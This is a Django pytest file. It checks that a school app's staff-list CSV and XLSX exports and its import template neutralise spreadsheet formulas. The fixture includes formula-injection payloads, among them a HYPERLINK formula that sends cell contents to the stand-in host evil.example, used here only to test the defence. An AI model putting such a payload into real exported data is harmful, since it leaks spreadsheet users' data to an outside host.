"""Issue 14, item 7: every CSV/XLSX the staff list is written to neutralises formulas: the
admin's export (CSV and XLSX) and the import template."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from processes.models import SchoolRole
from tests.factories import SchoolFactory, SchoolRoleFactory, StaffMemberFactory, UserFactory
from tests.signin import sign_in_admin

pytestmark = pytest.mark.django_db

MALICIOUS = {
    "name": '=HYPERLINK("https://evil.example/?d="&A2,"Klik")',
    "function": "+1",
    "department": "@SUM(A1:A9)",
}
FIELDS = ("name", "email", "category", "function", "department", "fte")


@pytest.fixture
def admin_client(client):
    admin = UserFactory(is_staff=True, is_superuser=True)
    sign_in_admin(client, admin)
    return client


@pytest.fixture
def member():
    return StaffMemberFactory(email="-2+3@school.nl", fte=Decimal("0.8000"), **MALICIOUS)


def _export(client, format_index):
    data = {"format": format_index, "resource": 0}
    data.update({f"staffmemberresource_{name}": "on" for name in FIELDS})
    response = client.post(reverse("admin:units_staffmember_export"), data)
    assert response.status_code == 200, response.content[:500]
    return response


def _neutralised(cells):
    assert cells["name"] == "'" + MALICIOUS["name"]
    assert cells["function"] == "'+1"
    assert cells["department"] == "'@SUM(A1:A9)"
    assert cells["email"] == "'-2+3@school.nl"


def test_item7_admin_csv_export_neutralises_formulas(admin_client, member):
    response = _export(admin_client, 0)  # export_formats = [CSV, XLSX]

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))

    assert len(rows) == 1
    _neutralised(rows[0])
    assert Decimal(rows[0]["fte"].replace(",", ".")) == Decimal("0.8")  # a number, as it was


def test_item7_admin_xlsx_export_neutralises_formulas(admin_client, member):
    response = _export(admin_client, 1)

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, values = [c.value for c in sheet[1]], sheet[2]

    cells = dict(zip(header, [c.value for c in values], strict=True))
    _neutralised(cells)
    assert all(cell.data_type != "f" for cell in values)  # no formula cell at all
    assert isinstance(cells["fte"], int | float | Decimal)  # numbers stay numbers


def test_item7_staff_import_template_is_plain_text(client):
    school = SchoolFactory()
    director = SchoolRoleFactory(school=school, role=SchoolRole.Role.DIRECTOR).user
    client.force_login(director)

    response = client.get(reverse("units:staff-import-template", kwargs={"school_id": school.pk}))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["naam", "e-mail", "categorie", "functie", "afdeling", "wtf"]]
